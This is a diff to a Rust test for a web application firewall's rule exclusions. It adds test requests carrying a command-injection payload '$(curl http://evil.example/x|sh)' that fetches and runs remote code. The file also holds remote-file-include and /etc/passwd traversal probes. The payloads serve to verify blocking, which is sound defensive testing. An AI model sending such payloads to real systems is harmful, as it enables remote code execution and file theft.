@@ -124,7 +124,8 @@ async fn exclusions_and_detect_mode_do_what_they_say() {
     let extra = DETECT.replace("RULES", CRS3)
         + &format!("[waf.excluding]\nrules = {rules}\naudit_log = \"{audit}\"\nexclusions = [{{ rule = 942100, path = \"/search\" }}, {{ rule = \"941100-941199\", remove = true }}, {{ rule = 930120, target = \"ARGS:file\" }}, {{ rule = 932160, target = \"ARGS:file\" }}, \
          {{ tag = \"attack-rfi\" }}, {{ tag = \"attack-lfi\", path = \"/docs\", target = \"ARGS:path\" }}, \
-         {{ tag = \"attack-rce\", path = \"/docs\", target = \"ARGS:path\" }}]\n");
+         {{ tag = \"attack-rce\", path = \"/docs\", target = \"ARGS:path\" }}, \
+         {{ rule = \"932000-932999\", path = \"/shell\", target = \"ARGS:cmd\" }}]\n");
     let fc = start(&config(&origin, admin, &extra).replace("waf = \"crs3\"", "waf = \"excluding\""));
     let sqli = |target: &'static str| Case { name: "sqli", method: "GET", target, body: None, headers: &[] };
     // 942100 (libinjection) is the only PL1 rule this payload trips: off on /search only.
@@ -167,7 +168,15 @@ async fn exclusions_and_detect_mode_do_what_they_say() {
     // (the same argument elsewhere, and another one there, are still inspected).
     let rfi = sqli("/page?include=http://198.51.100.7/shell.txt?");
     assert_eq!(through(&fc, &origin, &rfi, "crs3.test").await, (200, true), "attack-rfi excluded");
-    for (target, status) in [("/docs/a?path=/etc/passwd", 200), ("/docs/a?file2=/etc/passwd", 403)] {
+    // A range of ids for one argument on a path (`ctl:ruleRemoveTargetById` with a range,
+    // which libmodsecurity 3.0.9 honours only for the range's first id).
+    for (target, status) in [
+        ("/docs/a?path=/etc/passwd", 200),
+        ("/docs/a?file2=/etc/passwd", 403),
+        ("/shell?cmd=%24(curl%20http://evil.example/x%7Csh)", 200),
+        ("/shell?host=%24(curl%20http://evil.example/x%7Csh)", 403),
+        ("/other?cmd=%24(curl%20http://evil.example/x%7Csh)", 403),
+    ] {
         assert_eq!(through(&fc, &origin, &sqli(target), "crs3.test").await.0, status, "{target}");
     }
     // detect: everything passes, what would have been blocked is recorded.
